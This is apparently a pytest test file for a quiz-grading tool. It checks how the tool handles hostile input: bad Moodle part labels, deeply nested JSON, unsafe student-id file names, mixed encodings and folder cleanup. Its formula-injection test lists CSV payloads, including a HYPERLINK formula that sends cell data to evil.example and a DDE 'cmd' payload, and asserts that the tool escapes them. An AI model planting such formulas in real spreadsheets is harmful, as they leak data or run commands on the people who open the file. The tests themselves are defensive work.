"""Grading hostile or broken responses (issue 14): Moodle part labels that cannot be trusted,
deeply nested JSON answers, student ids unfit for file names, spreadsheet formulas in CSV
cells, files in mixed encodings, and grading into a folder that holds other files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fixtures.grading.answers import HERE, make_key
from typer.testing import CliRunner

from quizgen.cli import app
from quizgen.errors import AnswerParseError
from quizgen.grading.answers import part_label_error, split_parts

MOODLE = HERE / "moodle_responses.csv"


@pytest.fixture(scope="module")
def email_key(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_key(tmp_path_factory.mktemp("keys"), "roster-email.csv")


def run_grade(key: Path, responses: Path, out: Path, *extra: str) -> str:
    result = CliRunner().invoke(app, ["grade", str(key), str(responses), "--out", str(out), *extra])
    assert result.exit_code == 0, result.output
    return result.output


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


# --- item 3: Moodle part labels ---------------------------------------------------------------

@pytest.mark.parametrize(("text", "problem"), [
    ("part 1: 26; part 2: 288; part 2: 320", "part 2 is given twice"),
    ("part 2: 26; part 1: 32", "part 1 comes after part 2"),
    ("part 0: 26; part 1: 32", "part 0 does not exist"),
    ("part 1: 26 part 2: 32", "a label 'part 2:' inside part 1"),
    ("部分 1: 26; 部分 1: 32", "part 1 is given twice"),
])
def test_untrustworthy_part_labels_are_named(text: str, problem: str) -> None:
    assert part_label_error(text) is not None and problem in str(part_label_error(text))
    with pytest.raises(AnswerParseError, match="part labels"):
        split_parts(text)


def test_moodle_part_labels_in_order_still_read() -> None:
    assert part_label_error("part 1: 26; part 3: 32") is None  # a skipped part stays blank
    assert split_parts("part 1: 26; part 3: 32")[0] == ["26", "", "32"]


def test_repeated_part_label_is_unparseable_and_listed(email_key: Path, tmp_path: Path) -> None:
    text = MOODLE.read_text(encoding="utf-8-sig")
    # Alan's summary: his wrong 288 for part 2, then the right 320 again under the same label.
    assert text.count("part 2: 288; part 3") == 1
    hostile = tmp_path / "moodle.csv"
    hostile.write_text(text.replace("part 2: 288; part 3", "part 2: 288; part 2: 320; part 3"), encoding="utf-8-sig")
    out = tmp_path / "out"
    run_grade(email_key, hostile, out)
    fb = {(r["student_id"], r["question"]): r for r in rows(out / "feedback.csv")}
    alan = fb[("alan@example.edu", "summary")]
    assert alan["verdict"] == "unparseable" and alan["score"] == "0"
    assert "part 2 is given twice" in alan["explanation"]
    problems = [p for p in rows(out / "problems.csv") if p["kind"] == "malformed_answer"]
    assert [(p["row"], p["student_id"]) for p in problems] == [("3", "alan@example.edu")]
    assert "summary" in problems[0]["message"] and "part 2: 320" in problems[0]["data"]


# --- item 11: no cell of a CSV output is a formula ---------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+2",
           "\r=1+2", "=3\x00+4"]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_output_cell_starts_a_formula(tmp_path: Path) -> None:
    from fixtures.grading.answers import BANK, make_exam

    from quizgen.exam import write_key
    from quizgen.grading.write import OUTPUT_FILES

    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "name"])
        writer.writerow(["=1+1", "@evil =cmd"])
        writer.writerow(["-7", "-Minus +Plus"])  # a numeric id stays a number
        writer.writerow(["s3", "=HYPERLINK(\"x\")"])
    key = tmp_path / "key.json"
    write_key(make_exam(BANK, roster=roster), key)
    responses = tmp_path / "responses.csv"
    with responses.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "conv-params", "conv-shape", "size", "formula"])
        writer.writerow(["=1+1", HOSTILE[0], HOSTILE[1], "-5", HOSTILE[2]])
        writer.writerow(["-7", HOSTILE[3], HOSTILE[4], HOSTILE[5], HOSTILE[6]])
        writer.writerow(["s3", "18207", "-", "26", "=C_out*(K_h*K_w*C_in+1)"])
        writer.writerow(["=2+2", "=unknown student", "", "", ""])
        writer.writerow(["@s4\x00", "x", "", "", ""])
    out = tmp_path / "out"
    run_grade(key, responses, out, "--item", "=Quiz 1")
    cells: dict[str, list[str]] = {}
    for name in OUTPUT_FILES:
        if not name.endswith(".csv"):
            continue
        text = (out / name).read_text(encoding="utf-8-sig")
        assert "\x00" not in text, name
        cells[name] = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        for cell in cells[name]:
            assert not cell.startswith(FORMULA_START) or is_number(cell), (name, cell)
    assert len(cells) == 5
    feedback = cells["feedback.csv"]
    assert "'" + HOSTILE[0] in feedback and "'=3+4" in feedback  # kept, as text
    assert "-5" in feedback and "-7" in feedback  # numbers stay numbers
    assert "'=1+1" in cells["grades.csv"] and "'@evil =cmd" in cells["grades.csv"]
    assert "'=2+2" in cells["problems.csv"] and "'@s4" in cells["problems.csv"]
    assert "'=Quiz 1" in cells["moodle_grades.csv"] and "'=Quiz 1" in cells["canvas_grades.csv"]


# --- item 10: one safe file name per student, shared by worksheets and feedback pages -----------

RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(1, 10)), *(f"lpt{i}" for i in range(1, 10))}


def test_student_ids_unfit_for_file_names(tmp_path: Path) -> None:
    from fixtures.grading.answers import BANK

    ids = ["S" + "7" * 299, "CON", "con", "nul.txt", "LPT1", "a/b", "..", " spaced ", "ok-id"]
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id\n" + "\n".join(f'"{i}"' for i in ids) + "\n", encoding="utf-8")
    exam_dir = tmp_path / "exam"
    result = CliRunner().invoke(app, ["generate", str(BANK), "--seed", "3", "--roster", str(roster), "--format", "key,html",
                                      "--out", str(exam_dir)])
    assert result.exit_code == 0, result.output
    responses = tmp_path / "responses.csv"
    responses.write_text("student_id,conv-params\n" + "\n".join(f'"{i}",18207' for i in ids) + "\n", encoding="utf-8")
    out = tmp_path / "graded"
    run_grade(exam_dir / "key.json", responses, out)
    worksheets = sorted(p.stem for p in (exam_dir / "students").glob("*.html"))
    pages = sorted(p.stem for p in (out / "feedback").glob("*.html"))
    assert len(pages) == len(ids) and pages == worksheets  # the same stem for the same student
    for stem in pages:
        assert len(f"{stem}.html".encode()) <= 100 and stem.split(".")[0].casefold() not in RESERVED, stem
        assert not stem.startswith((".", " ")) and not stem.endswith((".", " ")), stem
    assert "ok-id" in pages  # a clean id keeps its name
    assert all(r["status"] == "graded" for r in rows(out / "grades.csv"))


# --- item 8: a deeply nested JSON-lines answer is one problem row, the rest is graded ----------

@pytest.mark.parametrize("depth", [40, 330, 5000])
def test_deeply_nested_json_line_is_listed_and_the_rest_graded(email_key: Path, tmp_path: Path, depth: int) -> None:
    deep = "[" * depth + "18207" + "]" * depth
    responses = tmp_path / "responses.jsonl"
    responses.write_text(f'{{"student_id": "ada@example.edu", "answers": {{"conv-params": {deep}}}}}\n'
                         '{"student_id": "alan@example.edu", "answers": {"conv-params": "18207"}}\n'
                         '{"student_id": "grace@example.edu", "answers": {"summary": {"rows": [{"output_shape": [null, 26, 26, 32], '
                         '"params": 320}], "total_params": 320}}}\n', encoding="utf-8")
    out = tmp_path / "out"
    run_grade(email_key, responses, out)
    grades = {r["student_id"]: r for r in rows(out / "grades.csv")}
    assert grades["alan@example.edu"]["score"] == "2" and grades["grace@example.edu"]["status"] == "graded"
    assert grades["ada@example.edu"]["status"] == "no_response"
    deep_rows = [p for p in rows(out / "problems.csv") if p["kind"] == "malformed_row"]
    assert [(p["row"], p["message"]) for p in deep_rows] == [("1", "the line nests lists or objects more than 32 deep: not graded")]
    if depth < 1000:
        assert deep_rows[0]["student_id"] == "ada@example.edu"


# --- item 9: a responses file of any size streams; problems beyond 1,000 a kind are counted ------

def write_many_rows(path: Path, rows: int, students: list[str]) -> None:
    """Rows of strangers (unknown ids), repeated attempts of the key's students and short rows."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "timestamp", "conv-params", "size", "formula"])
        for i in range(rows):
            sid = students[i % len(students)] if i % 2 else f"X{i:07d}"
            row = [sid, f"2024-01-01T{i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}", "18207", "26", "C_out*(K_h*K_w*C_in+1)"]
            writer.writerow(row[:3] if i % 500 == 7 else row)


def test_many_problems_are_summarised_and_every_row_accounted_for(email_key: Path, tmp_path: Path) -> None:
    from quizgen.grading.problemlog import LISTED

    students = ["ada@example.edu", "alan@example.edu", "grace@example.edu"]
    responses = tmp_path / "many.csv"
    write_many_rows(responses, 6000, students)
    out = tmp_path / "out"
    printed = run_grade(email_key, responses, out)
    assert "6,000 rows" in printed
    problems = rows(out / "problems.csv")
    listed: dict[str, int] = {}
    summarised: dict[str, int] = {}
    for p in problems:
        if p["row"]:
            listed[p["kind"]] = listed.get(p["kind"], 0) + 1
        elif p["message"].split(" ")[0].replace(",", "").isdigit():
            summarised[p["kind"]] = int(p["message"].split(" ")[0].replace(",", ""))
    assert listed["unknown_student"] == LISTED and summarised["unknown_student"] == 3000 - LISTED
    assert listed["duplicate"] == LISTED and summarised["duplicate"] == 3000 - 3 - LISTED
    assert "rows " in next(p["message"] for p in problems if p["kind"] == "unknown_student" and not p["row"])
    graded = sum(r["status"] == "graded" for r in rows(out / "grades.csv"))
    # every row read: one graded attempt per student, an unknown student, or an earlier attempt
    assert graded + 3000 + (3000 - 3) == 6000
    assert listed["malformed_row"] == 6000 // 500  # short rows of the students, listed one by one
    assert (out / "problems.csv").stat().st_size < 400_000


def write_many_json_lines(path: Path, rows: int, students: list[str]) -> None:
    with path.open("w", encoding="utf-8") as handle:
        for i in range(rows):
            sid = students[i % len(students)] if i % 2 else f"X{i:07d}"
            line = json.dumps({"student_id": sid, "submitted": f"2024-01-01T{i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}",
                               "answers": {"conv-params": "18207", "size": 26}})
            handle.write(("{not json" if i % 500 == 7 else line) + "\n")


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_a_responses_file_is_streamed_with_flat_memory(email_key: Path, tmp_path: Path, suffix: str) -> None:
    import tracemalloc

    from quizgen.exam import load_key
    from quizgen.grading.engine import grade_responses
    from quizgen.grading.readers import read_responses

    exam = load_key(email_key)
    peaks = []
    for count in (20_000, 60_000):
        responses = tmp_path / f"r{count}{suffix}"
        write = write_many_rows if suffix == ".csv" else write_many_json_lines
        write(responses, count, ["ada@example.edu", "alan@example.edu"])
        tracemalloc.start()
        try:
            table = read_responses(responses)
            assert not isinstance(table.rows, tuple)  # a stream, not the file in memory
            result = grade_responses(exam, table)
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
        malformed = sum(p.count for p in result.problems if p.kind.value == "malformed_row" and "JSON" in p.message)
        assert result.rows_read + malformed == count
    # three times the rows (4 MB of CSV), the same memory: bounded by the problems listed one by one
    assert peaks[1] < 1.1 * peaks[0], peaks


# --- item 13 (third point): a file in mixed encodings is named by its line --------------------

@pytest.mark.parametrize(("data", "message"), [
    ("student_id,conv-params\nada@example.edu,18207个参数\n".encode() + "alan@example.edu,一万八千\n".encode("gb18030"),
     "line 3: mixed encodings: this line is not UTF-8 text, but line 2 is"),
    (b"student_id,conv-params\nada@example.edu,18207\nalan@example.edu,1\nx,\xff\xfe\xff\n",
     "line 4: neither UTF-8 nor GB18030 text"),
    ("\ufeffstudent_id,conv-params\nada@example.edu,1\n".encode() + "张,1\n".encode("gb18030"),
     "line 3: not UTF-8 text, though the file starts with a UTF-8 mark"),
])
def test_undecodable_line_is_named(email_key: Path, tmp_path: Path, data: bytes, message: str) -> None:
    responses = tmp_path / "responses.csv"
    responses.write_bytes(data)
    result = CliRunner().invoke(app, ["grade", str(email_key), str(responses), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1 and message in result.output, result.output
    assert "byte" not in result.output and "Traceback" not in result.output


def test_gb18030_file_with_chinese_still_reads(email_key: Path, tmp_path: Path) -> None:
    responses = tmp_path / "responses.csv"
    responses.write_bytes("学号,conv-params\nada@example.edu,18207个参数\nalan@example.edu,一万\n".encode("gb18030"))
    assert "plain (gb18030)" in run_grade(email_key, responses, tmp_path / "out")


# --- item 1: grading deletes only what quizgen wrote, never through a symbolic link --------------

CANVAS = HERE / "canvas_student_analysis_utf16.txt"


def test_second_section_keeps_foreign_files_and_says_what_it_replaced(email_key: Path, tmp_path: Path) -> None:
    sis_key = make_key(tmp_path, "roster-sis.csv")
    out = tmp_path / "g"
    run_grade(email_key, MOODLE, out)
    first_pages = sorted(p.name for p in (out / "feedback").glob("*.html"))
    (out / "feedback" / "notes.html").write_text("my notes", encoding="utf-8")  # the instructor's, not quizgen's
    (out / "feedback" / "section-a.txt").write_text("keep", encoding="utf-8")
    edited = out / "feedback" / first_pages[0]
    edited.write_text(edited.read_text(encoding="utf-8") + "<!-- checked by hand -->", encoding="utf-8")
    result = CliRunner().invoke(app, ["grade", str(sis_key), str(CANVAS), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert (out / "feedback" / "notes.html").read_text(encoding="utf-8") == "my notes"
    assert (out / "feedback" / "section-a.txt").read_text(encoding="utf-8") == "keep"
    assert "checked by hand" in edited.read_text(encoding="utf-8")  # edited since quizgen wrote it: kept
    assert "replaced 6 files of the previous run: canvas_grades.csv, feedback.csv, grades.csv" in result.output
    assert f"removed {len(first_pages) - 1} files of the previous grading" in result.output
    assert "kept 1 file quizgen wrote earlier but that were changed since" in result.output
    left = {p.name for p in (out / "feedback").glob("*.html")}
    assert left.isdisjoint(first_pages[1:]) and {"notes.html", first_pages[0]} <= left


def test_feedback_folder_behind_a_symlink_is_refused_and_untouched(email_key: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "other.html").write_text("not quizgen's", encoding="utf-8")
    out = tmp_path / "g"
    out.mkdir()
    (out / "feedback").symlink_to(elsewhere)
    result = CliRunner().invoke(app, ["grade", str(email_key), str(MOODLE), "--out", str(out)])
    assert result.exit_code == 1 and "symbolic link" in result.output and "Traceback" not in result.output
    assert sorted(p.name for p in elsewhere.iterdir()) == ["other.html"]
    assert (elsewhere / "other.html").read_text(encoding="utf-8") == "not quizgen's"


def test_writing_outputs_directly_removes_no_file(email_key: Path, tmp_path: Path) -> None:
    from quizgen.exam import load_key
    from quizgen.grading.engine import grade_responses
    from quizgen.grading.readers import read_responses
    from quizgen.grading.write import write_outputs

    out = tmp_path / "g"
    (out / "feedback").mkdir(parents=True)
    (out / "feedback" / "someone-else.html").write_text("section A", encoding="utf-8")
    (out / "feedback" / ".draft.tmp").write_text("mine", encoding="utf-8")
    write_outputs(grade_responses(load_key(email_key), read_responses(MOODLE)), out)
    assert (out / "feedback" / "someone-else.html").read_text(encoding="utf-8") == "section A"
    assert (out / "feedback" / ".draft.tmp").exists()
